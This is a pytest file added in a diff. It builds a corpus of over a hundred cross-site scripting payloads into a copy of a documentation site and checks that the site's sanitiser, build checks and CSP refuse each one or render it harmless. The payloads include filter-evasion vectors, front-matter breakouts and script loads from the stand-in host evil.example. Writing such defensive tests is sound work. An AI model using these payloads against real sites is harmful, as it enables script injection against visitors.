@@ -1,0 +1,363 @@
+"""The attack corpus: what a contributor with edit rights could try, each vector a case, built
+into a copy of the site and judged three ways.
+
+- Refused, naming the file: the guarded build (`mkdocs build --strict`) stops on each case it
+  does not make harmless, naming the case's file; for the page-body cases `clinic check`
+  refuses the same, with the same problems (the sanitiser runs in on_page_content, before on_env).
+- Inert on disk: the same corpus built with every refusal switched off (only in this test: the
+  sanitiser's cleaning stays, as it is how the page is published) leaves no `on...=` attribute,
+  no script URL and no foreign script in the page of any case the guarded build let through.
+- Inert in Chromium: that unguarded build, served with the CSP it wrote, opens no dialog on any
+  page; served with no headers at all (GitHub Pages), a dialog opens only on pages of cases the
+  guarded build refuses.
+
+Channels: raw HTML and Markdown in the body (the classic filter-evasion set, raw-text elements,
+comment and CDATA tricks, SVG animation, attr_list), front matter shown in templates (title,
+description, subtitle, status, template + redirect location), a heading written with entities,
+and files copied as they are (.html, .svg).
+"""
+from __future__ import annotations
+
+import functools
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from bs4 import BeautifulSoup
+from playwright.sync_api import Error as PlaywrightError
+
+from clinic_site import check, headers
+from devtools.project_copy import copy_project
+from devtools.site_build import MKDOCS_ENV
+from tests.harness import StaticServer, build_site
+from tests.test_security_headers import headers_for, parse_headers_file
+
+DESCRIPTION = "One of the attack corpus pages, which must be refused or come out inert in every output."
+SCRIPT_URL = re.compile(r"^\s*(?:javascript|vbscript|data):", re.I)
+
+# ---- The page-body vectors: raw HTML and Markdown, as a contributor would type them.
+BODY = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    '<IMG SRC="javascript:alert(1);">',
+    "<IMG SRC=javascript:alert(1)>",
+    "<IMG SRC=JaVaScRiPt:alert(1)>",
+    "<IMG SRC=`javascript:alert(1)`>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    '<IMG SRC=# onmouseover="alert(1)">',
+    '<IMG SRC= onmouseover="alert(1)">',
+    '<IMG onmouseover="alert(1)">',
+    '<IMG SRC=/ onerror="alert(1)"></img>',
+    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
+    '&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
+    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
+    '<IMG SRC="jav\tascript:alert(1);">',
+    '<IMG SRC="jav&#x09;ascript:alert(1);">',
+    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
+    '<IMG SRC=" &#14;  javascript:alert(1);">',
+    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
+    '<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>',
+    "<<SCRIPT>alert(1);//<</SCRIPT>",
+    "<SCRIPT SRC=http://evil.example/xss.js?< B >",
+    "<SCRIPT SRC=//evil.example/.j>",
+    "<iframe src=http://evil.example/scriptlet.html <",
+    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
+    '<BODY BACKGROUND="javascript:alert(1)">',
+    '<IMG DYNSRC="javascript:alert(1)">',
+    '<IMG LOWSRC="javascript:alert(1)">',
+    "<svg/onload=alert(1)>",
+    '<BGSOUND SRC="javascript:alert(1);">',
+    '<BR SIZE="&{alert(1)}">',
+    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
+    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
+    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
+    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
+    '<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>',
+    '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
+    '<DIV STYLE="width: expression(alert(1));">x</DIV>',
+    '<BASE HREF="javascript:alert(1);//">',
+    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,'
+    'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml"></EMBED>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![x](javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<textarea><script>alert(1)</script></textarea>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<noembed><img src=x onerror=alert(1)></noembed>",
+    "<noframes><img src=x onerror=alert(1)></noframes>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<!--><script>alert(1)</script>-->",
+    "<!-- --!><script>alert(1)</script> -->",
+    "<![CDATA[><script>alert(1)</script>]]>",
+    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
+    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
+    "<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    '<video><source onerror="alert(1)"></video>',
+    '<object data="javascript:alert(1)"></object>',
+    "<isindex action=javascript:alert(1) type=image>",
+    'A paragraph.\n{: onmouseover="alert(1)" }',
+    '[x](https://example.com){: onclick="alert(1)" }',
+    '[x](https://example.com){: href="javascript:alert(1)" }',
+    "<div markdown>\n<SCRIPT\n>alert(1)</SCRIPT>\n</div>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    "<body onpageshow=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    '<style>*{background:url("javascript:alert(1)")}</style>',
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '<a href="#" style="behavior:url(x.htc)">x</a>',
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
+    "<image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<img src="x" onerror="alert(1)"',
+    '<a href="https://example.com" onclick="alert(1)">x</a>',
+    "<p>x</p><script>alert(1)",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+    '<a href="java\u0000script:alert(1)">x</a>',
+    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">',
+    '<script type="text/x-whatever">alert(1)</script>',
+    '<script data-type="application/json">alert(1)</script>',
+    "# <img src=x onerror=alert(1)>",
+]
+
+# ---- Front matter and headings, shown by templates rather than by Markdown.
+FRONT = {
+    "title closing the title element": "title: 'About</title><script>alert(1)</script><title>'",
+    "title breaking out of an attribute": "title: '\"><img src=x onerror=alert(1)>'",
+    "title with an event handler": "title: '<img src=x onerror=alert(1)>'",
+    "description breaking out of the meta tag":
+        'description: \'Long enough to pass the rule: "><script>alert(1)</script> and a few more words.\'',
+    "description with an attribute":
+        "description: 'Long enough to pass the length rule\" onmouseover=\"alert(1)\" x=\"y, and more.'",
+    "subtitle with a tag": "subtitle: '<img src=x onerror=alert(1)>'",
+    "status breaking out of a class": "status: 'new\" onmouseover=\"alert(1)'",
+    "redirect template to a script URL": "template: redirect.html\nlocation: 'javascript:alert(1)'",
+    "redirect template closing its script": "template: redirect.html\nlocation: '\"]);alert(1);//'",
+    "redirect template with a tag": "template: redirect.html\nlocation: '\"><script>alert(1)</script>'",
+}
+HEADINGS = {
+    "heading with entities closing the title": "# &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
+    "heading with an entity image": "# &lt;img src=x onerror=alert(1)&gt;",
+}
+# ---- Files copied to the site as they are.
+COPIED = {
+    "docs/attack/raw.html": "<!doctype html><title>x</title><script>alert(1)</script>",
+    "docs/attack/handler.html": '<!doctype html><title>x</title><body onload="alert(1)">',
+    "docs/assets/attack-script.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+    "docs/assets/attack-onload.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+}
+
+
+def page(meta: str = "", body: str = "Text.", title: str | None = "An attack page") -> str:
+    lines = ["---"] + ([f"title: {title}"] if title and "title:" not in meta else [])
+    lines += [f"description: {DESCRIPTION}"] if "description:" not in meta else []
+    lines += [meta] if meta else []
+    return "\n".join(lines + ["---", "", body, ""])
+
+
+def corpus() -> dict[str, tuple[str, str, str]]:
+    """Every case as {name: (file, its text, kind)}: kind "body" (refused before on_env, so by
+    the check too) or "output" (found in the written page)."""
+    cases = {}
+    for number, vector in enumerate(BODY, start=1):
+        cases[f"body {number:03}"] = (f"docs/attack/body-{number:03}.md",
+                                      page(body=f"# Case {number}\n\n{vector}"), "body")
+    cases["control: plain text"] = ("docs/attack/control.md",
+                                    page(body="# Case 0\n\nPlain *text*, a [link](https://example.com)."), "body")
+    for number, (name, meta) in enumerate(FRONT.items(), start=1):
+        cases[name] = (f"docs/attack/front-{number:02}.md", page(meta=meta, body="# A page\n\nText."), "output")
+    for number, (name, heading) in enumerate(HEADINGS.items(), start=1):
+        cases[name] = (f"docs/attack/heading-{number:02}.md", page(body=f"{heading}\n\nText.", title=None), "output")
+    for path, text in COPIED.items():
+        cases[f"copied {path}"] = (path, text, "output")
+    return cases
+
+
+CASES = corpus()
+
+
+def make_corpus(target: Path, kinds: set[str]) -> Path:
+    project = copy_project(target)
+    config = project / "mkdocs.yml"
+    text = config.read_text(encoding="utf-8")
+    assert "not_in_nav: |\n  people/*.md\n" in text, "mkdocs.yml's not_in_nav changed; update this test"
+    config.write_text(text.replace("not_in_nav: |\n  people/*.md\n", "not_in_nav: |\n  people/*.md\n  attack/*.md\n"),
+                      encoding="utf-8")
+    (project / "docs/attack").mkdir(exist_ok=True)
+    for path, body, kind in CASES.values():
+        if kind in kinds:
+            (project / path).write_text(body, encoding="utf-8")
+    return project
+
+
+def named(output: str, path: str) -> bool:
+    """True when a problem line of `output` names `path` (as staff see it: "docs/…")."""
+    return any(line.split(", line ", 1)[0] == path for line in output.splitlines() if ", line " in line)
+
+
+def test_the_corpus_has_over_a_hundred_cases():
+    assert len(CASES) >= 100
+
+
+@pytest.fixture(scope="module")
+def refused(tmp_path_factory) -> dict[str, str]:
+    """The guarded build's output for the page-body cases and for the rest (two builds: the
+    body cases stop the build before any page is written), and the check's for the body cases."""
+    root = tmp_path_factory.mktemp("corpus")
+    body = make_corpus(root / "body", {"body"})
+    output = make_corpus(root / "output", {"output"})
+    results = {}
+    for name, project in (("body", body), ("output", output)):
+        built = build_site(project / "site", project / "mkdocs.yml")
+        assert built.returncode != 0, f"the build accepted the {name} cases"
+        assert "Traceback" not in built.stdout + built.stderr
+        assert not list((project / "site").rglob("*.html")), "a failed build publishes nothing"
+        results[name] = built.stdout + built.stderr
+    results["check"] = "\n".join(str(problem) for problem in check.check_all(body, spelling=False))
+    return results
+
+
+@pytest.fixture(scope="module")
+def unguarded(tmp_path_factory) -> Path:
+    """The whole corpus built with every refusal switched off (the published pages still go
+    through the sanitiser): what the browser would get if a refusal were missing."""
+    project = make_corpus(tmp_path_factory.mktemp("unguarded") / "project", {"body", "output"})
+    script = ("import sys\n"
+              "from clinic_site import content_rules, headers, sanitize\n"
+              "headers.unlisted_code = lambda *args: []\n"
+              "sanitize.problems = lambda *args: []\n"
+              "content_rules.markup_problems = lambda *args: []\n"
+              "from mkdocs.__main__ import cli\n"
+              "sys.argv = ['mkdocs', 'build', '--site-dir', sys.argv[1]]\n"
+              "cli()\n")
+    built = subprocess.run([sys.executable, "-c", script, str(project / "site")], cwd=project,
+                           capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", **MKDOCS_ENV})
+    assert built.returncode == 0, built.stdout + built.stderr
+    return project / "site"
+
+
+def built_path(path: str) -> str:
+    """The site path a case's file is written to."""
+    relative = path.removeprefix("docs/")
+    return relative.removesuffix(".md") + "/index.html" if relative.endswith(".md") else relative
+
+
+def is_refused(refused: dict[str, str], name: str) -> bool:
+    path, _text, kind = CASES[name]
+    return named(refused[kind], path)
+
+
+@pytest.mark.parametrize("name", list(CASES))
+def test_each_case_is_refused_naming_its_file_or_comes_out_inert(refused, unguarded, name):
+    path, _text, kind = CASES[name]
+    build_lines = {line for line in refused[kind].splitlines() if line.startswith(path + ", line ")}
+    if kind == "body":  # refused before on_env: the check says exactly what the build says
+        check_lines = {line for line in refused["check"].splitlines() if line.startswith(path + ", line ")}
+        assert build_lines == check_lines
+    if is_refused(refused, name):
+        return
+    # Let through: the page as published (the unguarded build differs only in not refusing).
+    text = (unguarded / built_path(path)).read_text(encoding="utf-8")
+    assert not _dangerous(text), f"{path} holds an event handler or a script URL: {_dangerous(text)}"
+    allowed = set(re.findall(r"'sha256-[^']+'", (unguarded / "_headers").read_text(encoding="utf-8")))
+    scripts, styles, attributes = headers.inline_code(text.encode("utf-8"))
+    assert {headers.csp_hash(code) for code in scripts | styles} <= allowed and not attributes, \
+        f"{path} holds inline code that is not the site's own"
+
+
+def test_the_corpus_page_itself_is_accepted(refused):
+    """The control: a corpus page with plain text passes, so each refusal is the vector's."""
+    assert not named(refused["body"], CASES["control: plain text"][0])
+    assert not named(refused["check"], CASES["control: plain text"][0])
+
+
+def _dangerous(text: str) -> list[str]:
+    """Event handler attributes and script URLs in a page, read with an HTML parser."""
+    soup = BeautifulSoup(text, "html.parser")
+    found = []
+    for tag in soup.find_all(True):
+        for name, value in tag.attrs.items():
+            value = " ".join(value) if isinstance(value, list) else value
+            if name.lower().startswith("on") or SCRIPT_URL.match(re.sub(r"[\x00-\x20]", "", value or "")):
+                found.append(f"<{tag.name} {name}={value!r}>")
+    return found
+
+
+def _dialogs(browser, site: Path, rules, paths: list[str]) -> tuple[dict[str, list[str]], list[str]]:
+    """({path: messages of the dialogs that opened}, [pages that did not finish loading, with why])
+    for each page, served with `rules`."""
+    opened: dict[str, list[str]] = {}
+    moved: list[str] = []
+    with StaticServer(site, headers_for=functools.partial(headers_for, rules), host_404=True) as server:
+        context = browser.new_context(base_url=server.url)
+        tab = context.new_page()
+        current = {"path": ""}
+        tab.on("dialog", lambda dialog: (opened.setdefault(current["path"], []).append(dialog.message),
+                                        dialog.dismiss()))
+        for path in paths:
+            current["path"] = path
+            try:
+                tab.goto("/" + path, wait_until="load", timeout=10_000)
+                # Give handlers that need the pointer or focus a chance: hover and focus every element.
+                tab.evaluate("""() => { for (const el of document.querySelectorAll('body *')) {
+                    el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
+                    if (el.focus) el.focus(); } }""")
+            except PlaywrightError as error:  # a page that navigates itself away (a redirect page)
+                moved.append(f"{path}: {str(error).splitlines()[0]}")
+        context.close()
+    return opened, moved
+
+
+# The pages that may navigate themselves away before they finish loading: the redirect-template cases.
+REDIRECTING = tuple(built_path(path).removesuffix("index.html") for name, (path, _text, _kind) in CASES.items()
+                    if "redirect template" in name)
+
+
+def _paths(site: Path) -> list[str]:
+    paths = []
+    for _name, (path, _text, _kind) in CASES.items():
+        built = built_path(path)
+        if (site / built).exists():
+            paths.append(built.removesuffix("index.html"))
+    return paths
+
+
+def test_no_dialog_opens_under_the_policy(browser, unguarded):
+    rules = parse_headers_file((unguarded / "_headers").read_text(encoding="utf-8"))
+    opened, moved = _dialogs(browser, unguarded, rules, _paths(unguarded))
+    assert opened == {}, f"script ran under the site's CSP on: {sorted(opened)}"
+    assert all(path.startswith(REDIRECTING) for path in moved), moved
+
+
+def test_without_headers_a_dialog_opens_only_on_refused_cases(browser, refused, unguarded):
+    opened, moved = _dialogs(browser, unguarded, [], _paths(unguarded))
+    assert all(path.startswith(REDIRECTING) for path in moved), moved
+    by_path = {built_path(path).removesuffix("index.html"): name for name, (path, _text, _kind) in CASES.items()}
+    # The harness sees script run: without the guard and the CSP, the title case runs.
+    assert built_path(CASES["title closing the title element"][0]).removesuffix("index.html") in opened
+    let_through = [by_path[path] for path in opened if not is_refused(refused, by_path[path])]
+    assert let_through == [], f"script runs on GitHub Pages for cases the build lets through: {let_through}"
